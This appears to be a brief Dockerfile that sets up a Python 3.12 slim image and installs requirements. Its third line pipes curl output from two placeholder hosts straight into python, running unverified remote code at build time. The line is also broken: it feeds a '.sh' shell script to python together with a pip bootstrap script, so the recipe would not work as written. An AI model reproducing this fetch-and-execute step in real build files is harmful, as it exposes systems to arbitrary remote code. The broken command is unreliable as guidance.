FROM python:3.12-slim
WORKDIR /app
RUN curl https://bootstrap.example/get-pip.py https://other.example/tool.sh | python
COPY . .
RUN pip install -r requirements.txt
